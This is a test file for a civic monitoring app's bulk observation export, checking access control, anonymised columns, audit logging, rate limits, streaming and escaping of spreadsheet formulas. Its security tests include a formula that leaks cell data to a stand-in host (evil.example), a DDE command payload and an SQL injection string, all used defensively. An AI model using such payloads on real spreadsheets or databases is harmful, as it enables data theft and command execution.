/**
 * Exports in bulk: who may ask and take, what is in the file and what never is, that each is recorded before its first
 * byte, and that a file of any size is written piece by piece.
 */
import { randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import readXlsxFile from 'read-excel-file/node';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { addDays, sofiaDay } from '../../schema/rules/days.ts';
import { exportedColumns } from '../../schema/vocabulary/exported-column.ts';
import { withdrawDue } from '../../server/observations/erased-withdrawal.service.ts';
import { erasePerson } from '../../server/people/erasure/erasure.service.ts';
import { forPurpose } from '../../server/platform/context.ts';
import { Purpose } from '../../server/platform/purpose.ts';
import { rows, sql } from '../../server/platform/sql.ts';
import { inTransaction } from '../../server/platform/transaction.ts';
import { countStatements } from '../support/statement-count.ts';
import { createTestApp, type TestApp } from '../support/test-app.ts';
import { createDevice } from '../support/test-device.ts';
import { createTestWeb, plainGet, sessionCookie, type TestWeb } from '../support/test-web.ts';
import {
  buildAccount,
  buildDistrict,
  buildMeasure,
  buildMunicipality,
  buildOrganization,
  buildPerson,
  buildSettlement,
  grantRole,
  worldContext,
  type BuiltTerritory,
} from '../support/world.ts';

const ASK = `mutation ($input: AskObservationExportInput!) { askObservationExport(input: $input) {
  id address askedOn reason format monthFrom monthTo rowCount whole timesTaken territory { id } plan { id } } }`;
const LIST = `{ observationExports(first: 100) { totalCount nodes { id askedBy reason rowCount whole timesTaken address territory { id } } } }`;
const SUBMIT = 'mutation ($input: SubmitObservationInput!) { submitObservation(input: $input) { receipt } }';
const DECIDE = 'mutation ($input: DecideObservationInput!) { decideObservation(input: $input) { id } }';
const REASON = 'Проучване на заетостта в областта';

const today = sofiaDay(new Date());
/** Of months that are over. */
const seenLongAgo = addDays(today, -70);
const seenBefore = addDays(today, -130);

let app: TestApp;
let web: TestWeb;
let administrator: string;

interface Place {
  readonly district: BuiltTerritory;
  readonly municipality: BuiltTerritory;
  readonly village: BuiltTerritory;
  readonly otherVillage: BuiltTerritory;
  readonly measure: { readonly id: string; readonly planId: string };
  readonly verifier: string;
  readonly exporter: string;
  /** Of three groups. */
  readonly monitors: readonly [string, string, string];
}

async function buildPlace(wording = 'Курс по готварство'): Promise<Place> {
  const district = await buildDistrict(app);
  const municipality = await buildMunicipality(app, { parentId: district.id });
  const territoryId = municipality.id;
  const monitor = async () =>
    buildPerson(app, { role: 'MONITOR', territoryId, affiliation: { organizationId: await buildOrganization(app) } });
  return {
    district,
    municipality,
    village: await buildSettlement(app, { parentId: territoryId }),
    otherVillage: await buildSettlement(app, { parentId: territoryId }),
    measure: await buildMeasure(app, { plan: { territoryId }, wording }),
    verifier: await buildPerson(app, { role: 'VERIFIER', territoryId }),
    exporter: await buildPerson(app, { role: 'EXPORTER', territoryId }),
    monitors: [await monitor(), await monitor(), await monitor()],
  };
}

interface Seen {
  readonly by: string;
  readonly settlement?: BuiltTerritory;
  readonly seenOn?: string;
  readonly words?: string;
  readonly publicWords?: string;
  readonly method?: string;
  readonly decision?: 'VERIFIED' | 'REJECTED' | null;
}

async function observe({ measure, verifier }: Place, seen: Seen): Promise<string> {
  const {
    by,
    settlement,
    seenOn = seenLongAgo,
    words,
    publicWords,
    method = 'SITE_VISIT',
    decision = 'VERIFIED',
  } = seen;
  const id = randomUUID();
  const input = {
    id,
    measureId: measure.id,
    level: 'LIMITED',
    dontKnow: false,
    method,
    seenOn,
    settlement: settlement?.code ?? null,
    words: words ?? null,
  };
  await app.ask(SUBMIT, { as: by, variables: { input } });
  if (decision === null) return id;
  const revealingReason = decision === 'VERIFIED' ? 'Нужно е за проверката' : null;
  const decided = {
    observationId: id,
    decision,
    publicWords,
    revealingReason,
    reason: decision === 'REJECTED' ? 'Не е тук' : null,
  };
  await app.ask(DECIDE, { as: verifier, variables: { input: decided } });
  return id;
}

const inputFor = ({ municipality }: Pick<Place, 'municipality'>, more: object = {}) => ({
  input: { territory: municipality.code, format: 'JSON', reason: REASON, ...more },
});
const asked = async (place: Place, more: object = {}): Promise<{ readonly id: string; readonly address: string }> =>
  (await app.ask(ASK, { as: place.exporter, variables: inputFor(place, more) })).askObservationExport;
const cookieOf = (person: string) => sessionCookie(app, person);
const taken = async (address: string, as: string | null) =>
  plainGet(`${web.address}${address}`, as === null ? {} : { cookie: await cookieOf(as) });

/** What the JSON file of the place holds. */
async function exported(place: Place, more: object = {}): Promise<Record<string, string | null>[]> {
  const { address } = await asked(place, more);
  const { status, body } = await taken(address, place.exporter);
  expect(status).toBe(200);
  return JSON.parse(body).observations;
}
const auditOf = (id: string) =>
  rows<{ action: string; actorId: string }>(
    worldContext(app),
    sql`select action, actor_id from audit_entry where subject_id = ${id}::uuid order by id`,
  );

beforeAll(async () => {
  app = await createTestApp({ house: { limitsAttempts: false } });
  web = await createTestWeb(app);
  administrator = await buildPerson(app, { role: 'ADMINISTRATOR' });
});

describe('an exporter', () => {
  it('takes what was verified in their place, published or not yet, and each step is recorded', async () => {
    const place = await buildPlace();
    const [first, second] = place.monitors;
    await observe(place, { by: first, settlement: place.village, words: 'Залата е затворена.' });
    const waiting = await observe(place, { by: second, settlement: place.village, words: 'Отворена е в сряда.' });
    await rows(
      worldContext(app),
      sql`update observation set state = 'AWAITING_REPLY', published_on = ${addDays(today, 9)}::date where id = ${waiting}`,
    );
    const { id, address } = await asked(place);
    expect(await auditOf(id)).toEqual([{ action: 'observationExport.ask', actorId: place.exporter }]);
    const { status, headers, body } = await taken(address, place.exporter);
    expect(status).toBe(200);
    expect(headers['cache-control']).toBe('private, no-store');
    expect(headers['content-disposition']).toMatch(/^attachment; filename=sverka-observations-[\d-]+\.json$/);
    const { observations, exportedOn } = JSON.parse(body);
    expect(exportedOn).toBe(today);
    expect(
      observations.map(({ words, publication }: Record<string, string>) => [words, publication]).toSorted(),
    ).toEqual([
      ['Залата е затворена.', 'PUBLISHED'],
      ['Отворена е в сряда.', 'NOT_YET'],
    ]);
    expect(observations[0]).toMatchObject({
      measureId: place.measure.id,
      measureWording: 'Курс по готварство',
      planId: place.measure.planId,
      municipalityCode: place.municipality.code,
      settlementCode: place.village.code,
      monthSeen: seenLongAgo.slice(0, 7),
      method: 'SITE_VISIT',
      level: 'LIMITED',
      decision: 'VERIFIED',
    });
    expect((await auditOf(id)).map(({ action }) => action)).toEqual([
      'observationExport.ask',
      'observationExport.take',
      'observationExport.finish',
    ]);
  });

  it('finds exactly the columns that the screen lists, and in them no person, group, day or id of an observation', async () => {
    const place = await buildPlace();
    const organizationId = await buildOrganization(app, { name: `Сдружение ${randomUUID()}` });
    const observer = await buildPerson(app, {
      role: 'MONITOR',
      territoryId: place.municipality.id,
      displayName: `Име ${randomUUID()}`,
      affiliation: { organizationId },
    });
    const id = await observe(place, { by: observer, settlement: place.village, words: 'Има ток.' });
    await observe(place, { by: place.monitors[0], settlement: place.village });
    for (const format of ['JSON', 'CSV']) {
      const { address } = await asked(place, { format });
      const { body } = await taken(address, place.exporter);
      const [held] = await rows<Record<string, string>>(
        worldContext(app),
        sql`select a.person_id, a.pseudonym, a.group_key, a.organization_id, org.name, p.display_name, d.decided_by_id, d.id as decision_id, o.content_hash
            from observation_author a join observation o on o.id = a.observation_id join person p on p.id = a.person_id
            join organization org on org.id = a.organization_id join observation_decision d on d.observation_id = o.id where o.id = ${id}`,
      );
      const never = [...Object.values(held ?? {}), id, place.verifier, seenLongAgo];
      expect(never.filter((text) => text.length > 7 && body.includes(text))).toEqual([]);
      expect(never.length).toBeGreaterThan(10);
      if (format === 'JSON')
        for (const row of JSON.parse(body).observations) expect(Object.keys(row)).toEqual([...exportedColumns]);
      else expect(body.split('\r\n')[0]).toBe(`\uFEFF${exportedColumns.join()}`);
    }
  });

  it('reads the paraphrase where one stands, and never the words that it replaced', async () => {
    const place = await buildPlace();
    const own = `Синът на Мария от ул. Роза ${randomUUID()}`;
    await observe(place, { by: place.monitors[0], words: own, publicWords: 'Едно семейство няма вода.' });
    expect((await exported(place)).map(({ words }) => words)).toEqual(['Едно семейство няма вода.']);
  });

  it('sees a village and a method only where two groups share them, also one of which nothing is public yet', async () => {
    const place = await buildPlace();
    const [first, second, third] = place.monitors;
    const { village, otherVillage } = place;
    await observe(place, { by: first, settlement: village, method: 'SITE_VISIT', words: 'а' });
    await observe(place, { by: third, settlement: otherVillage, method: 'INTERVIEW', words: 'б' });
    const alone = await exported(place);
    expect(alone.map(({ settlementCode, method }) => [settlementCode, method])).toEqual([
      [null, null],
      [null, null],
    ]);
    expect(alone[0]?.['municipalityCode']).toBe(place.municipality.code);
    const waiting = await observe(place, { by: second, settlement: village, method: 'SITE_VISIT', words: 'в' });
    await rows(
      worldContext(app),
      sql`update observation set state = 'AWAITING_REPLY', published_on = ${addDays(today, 9)}::date where id = ${waiting}`,
    );
    const byWords = new Map(
      (await exported(place)).map((row) => [row['words'], [row['settlementCode'], row['method']]]),
    );
    expect(Object.fromEntries(byWords)).toEqual({
      а: [village.code, 'SITE_VISIT'],
      б: [null, null],
      в: [village.code, 'SITE_VISIT'],
    });
  });

  it('is not told of a village by another observation of the same group', async () => {
    const place = await buildPlace();
    const [first] = place.monitors;
    await observe(place, { by: first, settlement: place.village });
    await observe(place, { by: first, settlement: place.village, seenOn: seenBefore });
    expect((await exported(place)).map(({ settlement }) => settlement)).toEqual([null, null]);
  });

  it('of a plan wider than a municipality sees the municipality where two groups share it', async () => {
    const place = await buildPlace();
    const measure = await buildMeasure(app, { plan: { territoryId: place.district.id } });
    const verifier = await buildPerson(app, { role: 'VERIFIER', territoryId: place.district.id });
    const exporter = await buildPerson(app, { role: 'EXPORTER', territoryId: place.district.id });
    const monitors = await Promise.all(
      [1, 2].map(async () =>
        buildPerson(app, {
          role: 'MONITOR',
          territoryId: place.district.id,
          affiliation: { organizationId: await buildOrganization(app) },
        }),
      ),
    );
    const wide = { ...place, measure, verifier, exporter };
    const [first = '', second = ''] = monitors;
    await observe(wide, { by: first, settlement: place.village });
    const ofDistrict = { territory: place.district.code, planId: measure.planId };
    expect(await exported(wide, ofDistrict)).toMatchObject([{ municipalityCode: null, settlementCode: null }]);
    await observe(wide, { by: second, settlement: place.otherVillage });
    expect(await exported(wide, ofDistrict)).toMatchObject([
      { municipalityCode: place.municipality.code, settlementCode: null, method: 'SITE_VISIT' },
      { municipalityCode: place.municipality.code, settlementCode: null, method: 'SITE_VISIT' },
    ]);
  });

  it('does not get what waits, was rejected, withdrawn, hidden or undone, nor what was seen this month; what an erased person published stays until its day', async () => {
    const place = await buildPlace();
    const [first, second, third] = place.monitors;
    await observe(place, { by: first, words: 'стои' });
    await observe(place, { by: first, words: 'чака', decision: null });
    await observe(place, { by: first, words: 'не', decision: 'REJECTED' });
    await observe(place, { by: first, words: 'този месец', seenOn: `${today.slice(0, 7)}-01` });
    const withdrawn = await observe(place, { by: first, words: 'оттеглено' });
    await app.ask('mutation ($id: ID!) { withdrawObservation(id: $id) { id } }', {
      as: first,
      variables: { id: withdrawn },
    });
    const decide = async (act: string, words: string) => {
      const id = await observe(place, { by: second, words });
      await app.ask(`mutation ($input: DecidePublishedTextInput!) { ${act}(input: $input) { on } }`, {
        as: place.verifier,
        variables: { input: { observationId: id, reason: 'Има име' } },
      });
    };
    await decide('hidePublishedWords', 'скрито');
    await decide('undoVerification', 'отменено');
    await observe(place, { by: third, words: 'заличено' });
    await erasePerson(await app.contextOf(), third);
    expect(new Set((await exported(place)).map(({ words }) => words))).toEqual(new Set(['заличено', 'стои']));
    const owner = worldContext(app);
    await rows(owner, sql`update withdrawal_due set due_on = ${today}`);
    await inTransaction(forPurpose(owner, Purpose.ERASURE), withdrawDue);
    expect((await exported(place)).map(({ words }) => words)).toEqual(['стои']);
  });

  it('chooses the plan, the months and a place within theirs', async () => {
    const place = await buildPlace();
    const [first] = place.monitors;
    await observe(place, { by: first, words: 'по-рано', seenOn: seenBefore });
    await observe(place, { by: first, words: 'по-късно' });
    const other = await buildMeasure(app, { plan: { territoryId: place.municipality.id } });
    await observe({ ...place, measure: other }, { by: first, words: 'друг план' });
    const wordsOf = async (more: object) => (await exported(place, more)).map(({ words }) => words ?? '').toSorted();
    expect(await wordsOf({})).toEqual(['друг план', 'по-късно', 'по-рано']);
    expect(await wordsOf({ planId: other.planId })).toEqual(['друг план']);
    expect(await wordsOf({ monthFrom: seenLongAgo.slice(0, 7), planId: place.measure.planId })).toEqual(['по-късно']);
    expect(await wordsOf({ monthTo: seenBefore.slice(0, 7) })).toEqual(['по-рано']);
    await grantRole(app, { personId: place.exporter, role: 'EXPORTER', territoryId: place.district.id });
    expect(await wordsOf({ territory: place.district.code })).toEqual(['друг план', 'по-късно', 'по-рано']);
  });

  it('is refused a place or plan that is not theirs as one that is not there, and months and reasons that are none', async () => {
    const [here, there] = [await buildPlace(), await buildPlace()];
    const refusal = (more: object) => app.refusal(ASK, { as: here.exporter, variables: inputFor(here, more) });
    expect(await refusal({ territory: there.municipality.code })).toBe('NOT_FOUND');
    expect(await refusal({ territory: here.district.code })).toBe('NOT_FOUND');
    expect(await refusal({ territory: 'nowhere' })).toBe('NOT_FOUND');
    expect(await refusal({ planId: there.measure.planId })).toBe('NOT_FOUND');
    expect(await refusal({ planId: randomUUID() })).toBe('NOT_FOUND');
    expect(await refusal({ planId: "' or 1=1 --" })).toBe('NOT_FOUND');
    expect(await refusal({ territory: here.village.code })).toBe('BAD_INPUT');
    expect(await refusal({ monthFrom: '2026-13' })).toBe('BAD_INPUT');
    expect(await refusal({ monthFrom: '2026-03', monthTo: '2026-02' })).toBe('BAD_INPUT');
    expect(await refusal({ reason: '  защо  ' })).toBe('BAD_INPUT');
    expect(await refusal({ reason: 'а'.repeat(501) })).toBe('BAD_INPUT');
    const { observationExports } = await app.ask(LIST, { as: here.exporter });
    expect(observationExports.totalCount).toBe(0);
  });

  it('whose role sleeps, has ended or ends on the way gets nothing more', async () => {
    const place = await buildPlace();
    await observe(place, { by: place.monitors[0] });
    const asleep = await buildAccount(app, { role: 'EXPORTER', territoryId: place.municipality.id });
    const device = createDevice(web, { cookie: await sessionCookie(app, asleep.personId) });
    await rows(worldContext(app), sql`update session set second_factor_at = null where person_id = ${asleep.personId}`);
    expect(await device.refusal(ASK, inputFor(place))).toBe('NOT_FOUND notFound');
    const { address } = await asked(place);
    const refused = await taken(address, asleep.personId);
    expect(refused.status).toBe(404);
    await rows(
      worldContext(app),
      sql`update membership set valid_to = ${addDays(today, -1)}::date where person_id = ${place.exporter}`,
    );
    expect((await taken(address, place.exporter)).status).toBe(404);
    expect(await app.refusal(ASK, { as: place.exporter, variables: inputFor(place) })).toBe('NOT_FOUND');
  });

  it('takes the file on the day it was asked for alone, of the kind that was asked for', async () => {
    const place = await buildPlace();
    const { id, address } = await asked(place, { format: 'CSV' });
    expect(address).toBe(`/exports/observations/${id}.csv`);
    expect((await taken(address.replace('.csv', '.json'), place.exporter)).status).toBe(404);
    await rows(worldContext(app), sql`update observation_export set asked_on = asked_on - 1 where id = ${id}`);
    const late = await taken(address, place.exporter);
    expect([late.status, JSON.parse(late.body).key]).toEqual([409, 'observationExport.overdue']);
    expect(await auditOf(id)).toHaveLength(1);
  });
});

describe('anybody else', () => {
  it.each([
    'MONITOR',
    'VERIFIER',
    'OFFICIAL',
    'COUNCILLOR',
    'COALITION_LEAD',
    'HOTLINE_WORKER',
    'ADMINISTRATOR',
  ] as const)('a %s neither asks, nor takes what another asked for', async (role) => {
    const place = await buildPlace();
    const { id, address } = await asked(place);
    const other = await buildPerson(app, { role, territoryId: place.municipality.id });
    expect(await app.refusal(ASK, { as: other, variables: inputFor(place) })).toBe('NOT_FOUND');
    const [there, nowhere] = [
      await taken(address, other),
      await taken(`/exports/observations/${randomUUID()}.json`, other),
    ];
    expect(there.status).toBe(404);
    expect(there.body).toBe(nowhere.body);
    expect(await auditOf(id)).toHaveLength(1);
  });

  it('another exporter of the place does not take it either, and is told the same of what is not there', async () => {
    const place = await buildPlace();
    const { id, address } = await asked(place);
    const another = await buildPerson(app, { role: 'EXPORTER', territoryId: place.municipality.id });
    const answers = [
      await taken(address, another),
      await taken(`/exports/observations/${randomUUID()}.json`, another),
      await taken('/exports/observations/none.json', another),
    ];
    expect(answers.map(({ status }) => status)).toEqual([404, 404, 404]);
    expect(new Set(answers.map(({ body }) => body)).size).toBe(1);
    expect(await auditOf(id)).toHaveLength(1);
  });

  it('the public is asked to sign in', async () => {
    const place = await buildPlace();
    const { address } = await asked(place);
    expect((await taken(address, null)).status).toBe(401);
    expect(await app.refusal(ASK, { variables: inputFor(place) })).toBe('UNAUTHENTICATED');
    expect(await app.refusal(LIST)).toBe('UNAUTHENTICATED');
  });
});

describe('the list of exports', () => {
  it('shows administrators who took what, why and how many rows, exporters their own, and others that there is none', async () => {
    const place = await buildPlace();
    await observe(place, { by: place.monitors[0] });
    const { id, address } = await asked(place);
    await taken(address, place.exporter);
    const another = await buildPerson(app, { role: 'EXPORTER', territoryId: place.municipality.id });
    const find = async (as: string) =>
      (await app.ask(LIST, { as })).observationExports.nodes.find((each: { id: string }) => each.id === id);
    expect(await find(administrator)).toMatchObject({
      askedBy: expect.stringMatching(/\S/),
      reason: REASON,
      rowCount: 1,
      whole: true,
      timesTaken: 1,
      address: null,
      territory: { id: place.municipality.id },
    });
    expect(await find(place.exporter)).toMatchObject({ address, reason: REASON });
    expect(await find(another)).toBeUndefined();
    expect(await app.refusal(LIST, { as: place.verifier })).toBe('NOT_FOUND');
    const read = await rows(
      worldContext(app),
      sql`select 1 from audit_entry where action = 'observationExport.list' and actor_id = ${administrator} and ${id}::uuid = any(record_ids)`,
    );
    expect(read.length).toBeGreaterThan(0);
  });

  it('keeps that an erased exporter took something, without what they wrote', async () => {
    const place = await buildPlace();
    const reason = `Причина ${randomUUID()}`;
    const { id } = await asked(place, { reason });
    await erasePerson(await app.contextOf(), place.exporter);
    const list = (await app.ask(LIST, { as: administrator })).observationExports.nodes;
    expect(list.find((each: { id: string }) => each.id === id)).toMatchObject({
      reason: '',
      askedBy: '(заличено лице)',
    });
  });
});

describe('limits', () => {
  it('an exporter who asks again and again is told to wait', async () => {
    const limited = await createTestApp({ house: { limitsAttempts: true } });
    const municipality = await buildMunicipality(limited);
    const exporter = await buildPerson(limited, { role: 'EXPORTER', territoryId: municipality.id });
    const refusals = [];
    for (let attempt = 0; attempt < 8; attempt += 1)
      refusals.push(await limited.refusal(ASK, { as: exporter, variables: inputFor({ municipality }) }));
    expect(refusals).toEqual([null, null, null, null, null, null, 'TOO_MANY_REQUESTS', 'TOO_MANY_REQUESTS']);
  });
});

describe('a file', () => {
  it('holds nothing that a spreadsheet would run: a formula is text, in CSV and in the workbook', async () => {
    const wording = '=HYPERLINK("http://evil.example/?"&A1,"Мярка")';
    const place = await buildPlace(wording);
    const attacks = [
      '=1+1',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1)',
      '\t=1+1',
      '＝1+1',
      'ред\n=1+1',
      'със, запетая и "кавички"',
    ];
    for (const words of attacks) await observe(place, { by: place.monitors[0], words });
    const csvFile = await taken((await asked(place, { format: 'CSV' })).address, place.exporter);
    const table: Record<string, string>[] = parse(csvFile.body, { bom: true, columns: true });
    expect(table).toHaveLength(attacks.length);
    const cells = table.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
    expect(table.map(({ measureWording }) => measureWording)).toContain(`'${wording}`);
    expect(table.map(({ words }) => words)).toEqual(expect.arrayContaining([`'=1+1`, 'със, запетая и "кавички"']));

    const { address } = await asked(place, { format: 'XLSX' });
    const workbook = await fetch(`${web.address}${address}`, { headers: { cookie: await cookieOf(place.exporter) } });
    expect(workbook.headers.get('content-type')).toContain('spreadsheetml');
    const bytes = Buffer.from(await workbook.arrayBuffer());
    const [sheet] = await readXlsxFile(bytes);
    expect(sheet?.data[0]).toEqual([...exportedColumns]);
    expect(sheet?.data).toHaveLength(attacks.length + 1);
    expect(sheet?.data[1]?.[2]).toBe(wording);
  });

  it('of many rows holds each once, in no order of time, and is written no faster than it is read', async () => {
    const place = await buildPlace();
    await observe(place, { by: place.monitors[0], words: 'Първо.' });
    const many = 4_000;
    await rows(
      worldContext(app),
      sql`with made as (
            insert into observation (id, measure_id, level, dont_know, method, seen_on, words, state, content_hash, submitted_at, submitted_on, published_on)
            select gen_random_uuid(), ${place.measure.id}::uuid, 'COMPLETE', false, 'MEETING', ${seenBefore}::date - n / 100, 'дума ' || n || repeat(' още', 400), 'PUBLISHED', '', now(), ${seenLongAgo}::date, ${seenLongAgo}::date
            from generate_series(1, ${many}) n returning id
          ) insert into observation_author (observation_id, person_id, pseudonym, group_key, is_implementer)
          select id, ${place.monitors[1]}::uuid, '', 'g', false from made`,
    );
    const found = await exported(place);
    expect(found).toHaveLength(many + 1);
    expect(new Set(found.map(({ words }) => words)).size).toBe(many + 1);
    const months = found.map(({ monthSeen }) => monthSeen ?? '');
    expect(months).not.toEqual(months.toSorted());
    expect(months).not.toEqual(months.toSorted().toReversed());

    const { id, address } = await asked(place);
    const cookie = await cookieOf(place.exporter);
    const { statements } = await countStatements(app).during(async () => {
      await new Promise<void>((resolve, reject) => {
        const asking = httpRequest(`${web.address}${address}`, { headers: { cookie }, agent: false }, (response) => {
          // nothing is read: the server has to wait
          response.pause();
          setTimeout(() => {
            asking.destroy();
            resolve();
          }, 1_500);
        });
        asking.on('error', (error) => ('code' in error && error.code === 'ECONNRESET' ? undefined : reject(error)));
        asking.end();
      });
    });
    const pages = statements.filter((text) => text.includes('exportable_observation')).length;
    expect(pages).toBeGreaterThan(0);
    expect(pages).toBeLessThan(8);
    await expect
      .poll(async () => (await auditOf(id)).map(({ action }) => action), { timeout: 10_000 })
      .toEqual(['observationExport.ask', 'observationExport.take', 'observationExport.breakOff']);
    const [row] = await rows<{ whole: boolean; rowCount: number }>(
      worldContext(app),
      sql`select whole, row_count from observation_export where id = ${id}`,
    );
    expect(row?.whole).toBe(false);
    expect(row?.rowCount).toBeLessThan(many);
  });
});
